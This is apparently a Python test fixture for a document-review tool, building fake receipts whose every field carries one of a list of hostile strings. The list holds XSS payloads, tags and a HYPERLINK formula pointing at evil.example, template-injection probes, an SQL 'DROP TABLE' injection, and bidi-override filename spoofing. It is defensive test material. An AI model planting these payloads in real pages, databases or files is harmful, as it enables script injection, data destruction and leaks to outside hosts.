"""Texts that try to become more than text, at every place where a document or a person writes."""

from typing import Final

from bench.review.drawing import PageDrawing
from bench.review.paper import Paper, Reading

from winnow.contracts.base import Box
from winnow.contracts.parsed import HiddenText

PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    "<svg><animate onbegin=alert(5) attributeName=x dur=1s>",
    '"><script>alert(6)</script>',
    "' onmouseover='alert(7)",
    '" autofocus onfocus="alert(8)',
    "javascript:alert(9)",
    "<a href='javascript:alert(10)'>look</a>",
    "<iframe srcdoc='<script>alert(11)</script>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<img src=https://evil.example/pixel.png>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;background:red'>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>Approve",
    "<details open ontoggle=alert(12)>",
    "<video><source onerror=alert(13)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>",
    "<template><script>alert(15)</script></template>",
    "<div hx-get='https://evil.example/' hx-trigger=load>",
    "<div data-hx-on:load='alert(16)'>",
    "<button data-act=approve>Confirm</button>",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "]]><!--<script>alert(17)</script>-->",
    "&lt;script&gt;alert(18)&lt;/script&gt;",
    "%3Cscript%3Ealert(19)%3C/script%3E",
    "\\u003cscript\\u003ealert(20)\\u003c/script\\u003e",
    "\u202e gnp.exe cod \u202d",
    "\u2066hidden order\u2069 \u200bzero\u200bwidth",
    "bell\u0007 null-like\u0001 escape\u001b[31m",
    "Z\u0351\u036b\u0343a\u030d\u0311l\u0349\u0347g\u0322o\u0321" * 8,
    "مرحبا <b>بالعالم</b> 12",
    "'; DROP TABLE review_items; --",
    "=HYPERLINK('https://evil.example/','click')",
    "x" * 20_000,
    "<p>" * 3000,
)
COMPANY: Final = 120  # characters that the recipe allows


def hostile(number: int) -> Paper:
    """A receipt that says the payload wherever a document can say anything."""
    text = PAYLOADS[number]
    page = PageDrawing(1, 420, 594)
    page.write(f"Shop {number}", 18)
    page.write(" ".join(text[:60].split()) or "-", 12)
    page.write("TOTAL 5.00", 16)
    box = Box(x0=0.1, y0=0.5, x1=0.9, y1=0.55)
    data = {
        "company": text[:COMPANY],
        "date": "2026-03-03",
        "address": text,
        "total": 5.0,
        "currency": "EUR",
        "items": [{"name": text[:100], "quantity": None, "amount": 5.0}],
    }
    told = {"second_value": text[:500], "agreement": "differs", "second_reader": text[:50]}
    return Paper(
        file_name=f"{number} {text}"[:500],
        recipe="receipt",
        data=data,
        pages=(page,) if number % 2 else (),
        paragraphs=(f"Shop {number}", text, "TOTAL 5.00"),
        readings={
            "/company": Reading(text[:COMPANY], confidence=0.5, signals=told),
            "/address": Reading(text, confidence=0.6, signals=told),
            "/items/0/name": Reading(text[:100], confidence=0.3, signals=told),
        },
        sentences=(text, "A sentence that is harmless."),
        hidden=(HiddenText(text=text, page=1, how="other", box=box),),
        warnings=(text,),
        incomplete=text,
    )
